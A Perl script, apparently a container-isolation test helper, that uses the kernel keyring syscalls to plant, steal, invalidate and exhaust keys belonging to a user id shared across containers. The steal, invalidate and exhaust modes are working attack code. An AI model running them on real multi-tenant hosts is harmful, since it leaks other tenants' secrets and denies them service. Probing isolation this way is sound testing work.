# Uses the kernel's keyrings as a user that exists in every container (keyrings(7)).
#
#   keys.pl UID plant SECRET      a key in the user's keyring, as a program of the victim keeps it
#   keys.pl UID steal             what the keyrings of this user id hold, whose ever they are
#   keys.pl UID invalidate        makes these keys invalid
#   keys.pl UID exhaust NUMBER    adds keys until the quota of this user id refuses
#   keys.pl UID clear
require(($0 =~ m{^(/.*)/})[0] . '/common.pl');
use strict;
use warnings;

my ($id, $mode, $argument) = @ARGV;
my ($add_key, $keyctl) = (number('add_key'), number('keyctl'));
# KEYCTL_JOIN_SESSION_KEYRING, so that what is linked below belongs to this process.
become($id);
syscall $keyctl, 1, 0;
my ($session, $user) = (-3, -4);

sub add {
    my ($name, $payload) = @_;
    my $type = 'user';
    return syscall $add_key, $type, $name, $payload, length $payload, $user;
}

# Calls a function for each key in a keyring of this user id that /proc/keys shows.
sub each_key {
    my ($use) = @_;
    open my $list, '<', '/proc/keys' or return;
    for (<$list>) {
        next unless /^([0-9a-f]+) .* keyring\s+_uid\.\d+/;
        my $ring = hex $1;
        # KEYCTL_LINK: the owner of a keyring may link it, and who holds a keyring possesses what is in it. The next
        # keyring has the same name and takes its place, so its keys are used at once.
        syscall $keyctl, 8, $ring, $session;
        my $bytes = "\0" x 4096;
        my $length = syscall $keyctl, 11, $ring, $bytes, 4096;
        $use->($_) for $length > 0 && $length <= 4096 ? unpack 'l*', substr $bytes, 0, $length : ();
    }
}

if ($mode eq 'plant') {
    my $serial = add('tenants-secret', $argument);
    report(planted => $serial > 0 ? 1 : 0);
} elsif ($mode eq 'steal') {
    my @secrets;
    each_key(sub {
        my $bytes = "\0" x 256;
        my $length = syscall $keyctl, 11, 0 + $_[0], $bytes, 256;
        push @secrets, substr $bytes, 0, $length if $length > 0 && $length <= 256;
    });
    report(secrets => \@secrets);
} elsif ($mode eq 'invalidate') {
    my $invalidated = 0;
    each_key(sub { $invalidated++ if syscall($keyctl, 21, 0 + $_[0]) == 0 });
    report(invalidated => $invalidated);
} elsif ($mode eq 'exhaust') {
    my $added = 0;
    $added++ while $added < $argument && add("tenants-$added", 'x') > 0;
    report(added => $added, error => $added < $argument ? error_name() : 'none');
} else {
    report(cleared => syscall($keyctl, 7, $user) == 0 ? 1 : 0);
}
